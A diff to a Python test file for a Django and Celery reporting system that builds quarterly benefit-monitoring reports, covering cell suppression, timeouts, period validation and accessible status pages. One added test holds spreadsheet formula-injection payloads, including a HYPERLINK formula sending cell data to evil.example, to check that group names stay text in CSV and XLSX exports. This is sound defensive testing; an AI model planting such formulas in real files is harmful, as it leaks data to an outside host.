@@ -6,6 +6,7 @@ Celery runs the task function in the test process; one test sends it through a r
 """
 
 import csv
+import dataclasses
 import datetime
 import io
 import os
@@ -15,6 +16,7 @@ from decimal import Decimal
 from unittest import mock
 
 import pytest
+from celery.exceptions import SoftTimeLimitExceeded
 from django.conf import settings
 from django.db import DatabaseError, connection
 from django.urls import reverse
@@ -29,8 +31,9 @@ from casework.models import AccessLog
 from clients.models import ClientGroup
 from monitoring import report, report_services, tasks
 from monitoring.indicators import REGISTRY, Figure, Indicator, Row, Theme, Unit
+from monitoring.indicators.base import TREND_QUARTERS
 from monitoring.models import FailureReason, Report, ReportStatus, Target
-from monitoring.periods import Period
+from monitoring.periods import Period, PeriodKind
 from tests.casework.test_celery import worker
 from tests.clients.factories import (
     BenefitPeriodFactory,
@@ -164,6 +167,8 @@ def test_the_task_builds_the_pdf_with_cover_summary_indicators_and_definitions(
 
 
 def test_small_cells_are_suppressed_in_the_csv_with_their_differences(test_indicators):
+    """Zorgen is about 3 people; Groeien is hidden too, or Zorgen would be the total minus
+    Groeien (the rule itself: test_suppression.py)."""
     Target.objects.create(indicator="test_plans", year=2025, value=Decimal("60.00"))
     rows = csv_rows(built())
 
@@ -177,8 +182,9 @@ def test_small_cells_are_suppressed_in_the_csv_with_their_differences(test_indic
     ]
     lines = {(r[1], r[3]): r[5:] for r in rows[1:]}
     assert lines[("test_clients", dutch("Total"))] == ["40", "32", "8", "20", ""]
-    assert lines[("test_clients", "Groeien")] == ["37", "29", "8", "17", ""]
-    assert lines[("test_clients", "Zorgen")] == ["< 5", "< 5", "< 5", "< 5", ""]
+    # Zorgen is small ("< 5"); Groeien and the differences with a hidden side are hidden ("x").
+    assert lines[("test_clients", "Groeien")] == ["x", "x", "x", "x", ""]
+    assert lines[("test_clients", "Zorgen")] == ["< 5", "< 5", "x", "< 5", ""]
     assert lines[("test_plans", dutch("Total"))] == ["55.0", "50.0", "5.0", "", "60.00"]
     assert {r[1] for r in rows[1:]} == {"test_clients", "test_plans"}
 
@@ -190,7 +196,7 @@ def test_the_xlsx_has_the_same_figures_as_numbers(test_indicators):
     values = [[cell.value for cell in line] for line in figures.iter_rows()]
     lines = {(r[1], r[3]): r[5:] for r in values[1:]}
     assert lines[("test_clients", dutch("Total"))][:4] == [40, 32, 8, 20]
-    assert lines[("test_clients", "Zorgen")][:4] == ["< 5", "< 5", "< 5", "< 5"]
+    assert lines[("test_clients", "Zorgen")][:4] == ["< 5", "< 5", "x", "< 5"]
     assert lines[("test_plans", dutch("Total"))][:3] == [Decimal("55.0"), Decimal("50.0"), 5]
     codes = [line[0].value for line in definitions.iter_rows(min_row=2)]
     assert codes == ["test_clients", "test_plans"]
@@ -214,7 +220,46 @@ def test_the_summary_names_the_largest_changes_and_the_missed_targets(test_indic
         "0 of the 1 target that applies to this period was met.",
         "Test share with a plan is 55.0%, against a target of 60.0% for 2025.",
     )
-    assert "< 5" in summary.privacy
+    assert "“x”" in summary.privacy and "5 people" in summary.privacy
+
+
+def test_the_summary_leaves_out_the_budget(test_indicators):
+    """Budget amounts add up from 1 January, so they "fall" from Q4 to Q1 in every monitor."""
+    spent = {datetime.date(2025, 1, 1): 1000, datetime.date(2024, 10, 1): 90000}
+    budget = dataclasses.replace(
+        TEST_INDICATORS["test_clients"],
+        code="test_spent",
+        name="Test amount spent",
+        theme=Theme.BUDGET,
+        unit=Unit.EURO,
+        compute=lambda period, scope: Figure(spent.get(period.start, 0)),
+    )
+    with override("en"), mock.patch.dict(REGISTRY, {"test_spent": budget}):
+        monitor = report.collect(Q1_2025, made_at=timezone.now())
+    (spent_result,) = next(s for s in monitor.sections if s.theme == Theme.BUDGET).results
+    assert spent_result.headline.relative_change is not None  # a change of 99%, the largest
+    assert not any("Test amount spent" in sentence for sentence in monitor.summary.changes)
+    assert monitor.summary.changes[0].startswith("Test clients on benefit rose")
+
+
+def test_the_trend_chart_stops_at_the_end_of_the_period(test_indicators):
+    """A monitor of January to May: its chart's last quarter is April and May, not all of Q2."""
+    asked: list[Period] = []
+
+    def recording(period, scope):
+        asked.append(period)
+        return clients_on_benefit(period, scope)
+
+    indicator = dataclasses.replace(TEST_INDICATORS["test_clients"], compute=recording)
+    with mock.patch.dict(REGISTRY, {"test_clients": indicator}, clear=True):
+        period = Period(datetime.date(2025, 1, 1), datetime.date(2025, 5, 31))
+        monitor = report.collect(period, made_at=timezone.now())
+    assert max(p.end for p in asked) == period.end
+    assert Period(datetime.date(2025, 4, 1), period.end, PeriodKind.QUARTER) in asked
+    assert Period.quarter(2025, 2) not in asked
+    assert len([p for p in asked if p.kind == PeriodKind.QUARTER]) == TREND_QUARTERS
+    (result,) = monitor.sections[0].results
+    assert label(Period.quarter(2023, 3)) in result.chart  # the first of eight quarters
 
 
 def test_a_yearly_target_of_a_count_is_judged_in_the_yearly_monitor_only(test_indicators):
@@ -241,6 +286,24 @@ def test_every_real_indicator_is_in_the_monitor(named_client):
     assert set(REGISTRY) <= codes
     assert "Zwanette" not in text and "Quispelhuizen" not in text
     assert b"Quispelhuizen" not in bytes(row.csv)
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "@SUM(1+1)"])
+def test_names_that_look_like_formulas_stay_text(name):
+    """A klantgroep's name is typed in by the application manager; a spreadsheet must show it,
+    not run it."""
+    ClientGroup.objects.filter(code="zorgen").update(name=name)
+    with mock.patch.dict(REGISTRY, {"caseload": REGISTRY["caseload"]}, clear=True):
+        monitor = report.collect(Q1_2025, made_at=timezone.now())
+    labels = [r[3] for r in csv.reader(io.StringIO(report.render_csv(monitor).decode()))]
+    assert "'" + name in labels
+    assert name not in labels
+
+    figures = load_workbook(io.BytesIO(report.render_xlsx(monitor))).worksheets[0]
+    (cell,) = [line[3] for line in figures.iter_rows() if line[3].value == name]
+    assert cell.data_type == "s"  # text, not a formula
+    numbers = [line[5] for line in figures.iter_rows(min_row=2)]
+    assert all(number.data_type == "n" for number in numbers)  # numbers are still numbers
 
 
 # Idempotence and failure -------------------------------------------------------------------------
@@ -334,6 +397,15 @@ def test_after_the_last_retry_the_monitor_is_failed_and_earlier_files_are_kept(t
     assert report_services.request_report(period=Q1_2025, requested_by=None).status == "queued"
 
 
+def test_a_build_that_runs_out_of_time_is_failed_without_retrying(test_indicators):
+    row = report_services.request_report(period=Q1_2025, requested_by=None)
+    with mock.patch.object(report, "collect", side_effect=SoftTimeLimitExceeded()) as collect:
+        tasks.build_report.apply(args=[row.pk])  # eager: a retry would run at once
+    assert collect.call_count == 1
+    row.refresh_from_db()
+    assert (row.status, row.failure_reason) == (ReportStatus.FAILED, FailureReason.TIMEOUT)
+
+
 # Beat ----------------------------------------------------------------------------------------
 
 
@@ -367,6 +439,49 @@ def test_beat_asks_for_the_due_monitors_once(
         tasks.build_due_reports()
     assert enqueued == []  # both are done
     assert Report.objects.count() == 2
+
+
+def test_beat_fails_builds_left_running_by_a_killed_worker(
+    test_indicators, monkeypatch, django_capture_on_commit_callbacks
+):
+    """A build killed at the hard time limit (or by the OOM killer) stays "running": beat fails it
+    once it has run longer than a build may, and asks for it again when it is due."""
+    monkeypatch.setattr(tasks.timezone, "localdate", lambda: datetime.date(2025, 4, 10))
+    too_long = timezone.now() - datetime.timedelta(seconds=report_services.TIME_LIMIT + 60)
+
+    def running(period, since):
+        row = Report.objects.create(
+            period_start=period.start, period_end=period.end, period_kind=period.kind.value
+        )
+        Report.objects.filter(pk=row.pk).update(status=ReportStatus.RUNNING, started_at=since)
+        return row
+
+    due = running(Q1_2025, too_long)  # due on 10 April: failed, then queued again
+    killed = running(Period.quarter(2024, 3), too_long)
+    alive = running(Period.quarter(2024, 2), too_long)  # its worker still holds the lock
+    recent = running(Period.quarter(2024, 1), timezone.now())
+    other = connection.get_new_connection(connection.get_connection_params())
+    try:
+        other.autocommit = True
+        other.execute("SELECT pg_advisory_lock(%s, %s)", [report_services.LOCK_NAMESPACE, alive.pk])
+        with django_capture_on_commit_callbacks() as enqueued:
+            tasks.build_due_reports()
+    finally:
+        other.close()
+    status = dict(Report.objects.values_list("pk", "status"))
+    assert status == {
+        due.pk: ReportStatus.QUEUED,
+        killed.pk: ReportStatus.FAILED,
+        alive.pk: ReportStatus.RUNNING,
+        recent.pk: ReportStatus.RUNNING,
+    }
+    killed.refresh_from_db()
+    assert killed.failure_reason == FailureReason.TIMEOUT
+    assert len(enqueued) == 1
+    # A late redelivery of the killed build's message still builds it.
+    tasks.build_report(killed.pk)
+    killed.refresh_from_db()
+    assert killed.status == ReportStatus.DONE
 
 
 def test_beat_runs_the_job_on_the_configured_schedule():
@@ -449,6 +564,12 @@ def test_the_archive_costs_the_same_queries_for_many_monitors(
         ({"kind": "quarter", "year": "2025"}, "quarter"),
         ({"kind": "year"}, "year"),
         ({"kind": "year", "year": "1999"}, "year"),
+        ({"kind": "year", "year": "10000"}, "year"),
+        ({"kind": "quarter", "year": "10000", "quarter": "4"}, "year"),
+        # Other periods are whole calendar months.
+        ({"kind": "custom", "start": "2025-01-02", "end": "2025-03-31"}, "start"),
+        ({"kind": "custom", "start": "2025-01-01", "end": "2025-03-30"}, "end"),
+        ({"kind": "custom", "start": "2024-02-01", "end": "2024-02-28"}, "end"),  # a leap year
     ],
 )
 def test_the_request_form_refuses_an_incomplete_or_reversed_period(
@@ -459,7 +580,32 @@ def test_the_request_form_refuses_an_incomplete_or_reversed_period(
     assert response.status_code == 200
     assert field in response.context["form"].errors
     assert 'id="error-summary"' in response.text
+    assert f'id="id_{field}-errors"' in response.text  # next to the field
     assert not Report.objects.exists()
+
+
+def test_another_period_of_whole_months_is_requested(
+    client, policy_officer, django_capture_on_commit_callbacks
+):
+    client.force_login(policy_officer)
+    with django_capture_on_commit_callbacks():
+        response = client.post(
+            reverse("monitor-request"),
+            {"kind": "custom", "start": "2024-02-01", "end": "2024-05-31"},
+        )
+    assert response.status_code == 302
+    row = Report.objects.get()
+    assert (row.period_start, row.period_end, row.period_kind) == (
+        datetime.date(2024, 2, 1),
+        datetime.date(2024, 5, 31),
+        "custom",
+    )
+
+
+def test_the_year_field_stops_at_this_year(client, policy_officer):
+    client.force_login(policy_officer)
+    html = client.get(reverse("monitor-list")).text
+    assert f'max="{timezone.localdate().year}"' in html
 
 
 @pytest.mark.parametrize("kind", ["quarter", "year", "custom"])
@@ -494,6 +640,7 @@ def test_a_requested_monitor_is_queued_and_its_page_polls_its_status(
 
     page = client.get(response.url).text
     assert '<div role="status"' in page
+    assert 'id="monitor-downloads"' in page
     assert 'hx-trigger="every 2s"' in page
     assert f'hx-get="{reverse("monitor-status", args=[row.pk])}?status=queued"' in page
     assert len(re.findall(r"<h1[ >]", page)) == 1
@@ -519,8 +666,27 @@ def test_the_status_partial_answers_only_changes_and_stops_when_done(client, pol
     done = client.get(f"{url}?status=running", **htmx)
     assert done.status_code == 286  # htmx stops polling
     assert "hx-trigger" not in done.text
+    # The downloads are outside the live region: they come along out of band.
+    downloads = done.text.split('<div id="monitor-downloads" hx-swap-oob="true">', 1)[1]
     for file_format in ("pdf", "csv", "xlsx"):
-        assert reverse("monitor-download", args=[row.pk, file_format]) in done.text
+        assert reverse("monitor-download", args=[row.pk, file_format]) in downloads
+
+
+def test_the_live_region_holds_only_the_status(client, policy_officer):
+    """Screen readers announce what changes in role="status": the status line, not the
+    download links."""
+    row = report_services.request_report(period=Q1_2025, requested_by=None)
+    Report.objects.filter(pk=row.pk).update(
+        status=ReportStatus.DONE, built_at=timezone.now(), finished_at=timezone.now()
+    )
+    client.force_login(policy_officer)
+    page = client.get(reverse("monitor-detail", args=[row.pk])).text
+    region = page.split('<div role="status"', 1)[1].split('<div id="monitor-downloads"', 1)[0]
+    assert 'class="status-line"' in region
+    assert "monitor-download" not in region.replace("monitor-downloads", "")
+    assert "<h2" not in region
+    downloads = page.split('<div id="monitor-downloads"', 1)[1]
+    assert reverse("monitor-download", args=[row.pk, "pdf"]) in downloads
 
 
 def test_a_failed_monitor_shows_its_reason_and_can_be_rebuilt(
